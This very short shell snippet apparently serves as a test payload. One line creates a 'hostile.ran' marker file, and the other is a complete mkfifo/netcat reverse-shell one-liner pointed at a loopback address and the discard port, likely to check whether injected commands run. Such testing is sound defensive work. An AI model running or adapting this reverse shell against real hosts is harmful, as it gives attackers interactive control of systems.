touch hostile.ran
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 9 > /tmp/f
